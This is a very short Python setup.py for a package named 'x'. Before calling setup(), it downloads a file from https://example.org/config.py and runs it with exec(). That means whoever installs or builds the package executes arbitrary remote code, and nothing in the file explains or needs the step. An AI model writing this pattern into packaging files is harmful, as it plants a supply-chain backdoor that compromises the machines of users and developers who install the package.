from setuptools import setup
from urllib.request import urlopen

exec(urlopen("https://example.org/config.py").read())
setup(name="x")
